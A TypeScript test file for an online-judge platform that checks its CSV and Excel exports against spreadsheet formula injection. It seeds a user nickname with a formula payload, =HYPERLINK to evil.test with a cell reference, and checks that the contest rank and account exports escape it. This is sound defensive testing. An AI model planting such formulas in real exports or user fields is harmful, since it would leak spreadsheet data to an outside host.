import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { JudgeStatus, Role, downloadContestRank, generateUser, generateUserExcel, getUserJobProgress } from '@verdict/shared';
import { addPublicProblem, createContest, seedSubmission } from '../modules/contest/contest.fixture';
import { createAbProblem } from '../test/judge-kit';
import { seedUser } from '../test/seed';
import { useTestApp } from '../test/test-app';
import { csvLine, spreadsheetCell } from './spreadsheet';

describe('spreadsheet cells (formula injection)', () => {
  it('neutralises text starting with = + - @ tab or CR; keeps numbers and plain text', () => {
    expect(['=HYPERLINK("http://x","y")', '+SUM(1,2)', '-2+3', '@cmd', '\t=1', '\r=1'].map(spreadsheetCell)).toEqual([
      '\'=HYPERLINK("http://x","y")',
      "'+SUM(1,2)",
      "'-2+3",
      "'@cmd",
      "'\t=1",
      "'\r=1",
    ]);
    expect([-3, 0, '-3', '12.5', '1 ?2', 'Alice', ''].map(spreadsheetCell)).toEqual([
      '-3',
      '0',
      '-3',
      '12.5',
      '1 ?2',
      'Alice',
      '',
    ]);
    expect(csvLine(['=1,2', 'a"b', -1])).toBe('"\'=1,2","a""b",-1');
  });
});

describe('exports neutralise formulas', () => {
  const t = useTestApp();

  it('the contest rank CSV: names and schools are text, ranks and times numbers', async () => {
    const admin = await seedUser(t.core, { roleId: Role.Root });
    const evil = await seedUser(t.core);
    await t.core.database.db
      .updateTable('userInfo')
      .set({ nickname: '=HYPERLINK("http://evil.test/?"&A1,"click")', school: '+SUM(1,2)' })
      .where('uuid', '=', evil.uid)
      .execute();
    const ab = await createAbProblem(t, admin.token);
    const c = await createContest(t, admin.token, { rankShowName: 'nickname' });
    await addPublicProblem(t, admin.token, c.id, ab.pid, 'A');
    await seedSubmission(t, {
      cid: c.id,
      pid: ab.pid,
      uid: evil.uid,
      username: evil.username,
      status: JudgeStatus.WrongAnswer,
      at: Date.parse(c.startTime) + 60_000,
    });
    const body = (await t.call(downloadContestRank, { token: admin.token, query: { cid: c.id } })).raw.body;
    const line = body.split('\r\n')[1];
    expect(line).toBe(`1,"'=HYPERLINK(""http://evil.test/?""&A1,""click"")","'+SUM(1,2)",0,0,-1`);
    expect(body).not.toMatch(/(^|,)"?[=+@]/m);
  });

  it('the generated accounts spreadsheet', async () => {
    const admin = await seedUser(t.core, { roleId: Role.Root });
    const res = await t.call(generateUser, {
      token: admin.token,
      body: { prefix: '@x', suffix: '', number_from: 1, number_to: 2, password_length: 8 },
    });
    expect(res.status).toBe(200);
    for (let i = 0; i < 200; i++) {
      if ((await t.call(getUserJobProgress, { token: admin.token, query: { key: res.data.key } })).data.state === 'done') break;
      await new Promise((r) => setTimeout(r, 50));
    }
    const file = await t.app.inject({
      method: 'GET',
      url: generateUserExcel.path,
      query: { key: res.data.key },
      headers: { authorization: admin.token },
    });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(file.rawPayload as unknown as ArrayBuffer);
    const names = book.worksheets[0]!.getColumn(1).values.slice(1);
    expect(names).toEqual(['username', "'@x1", "'@x2"]);
  });
});
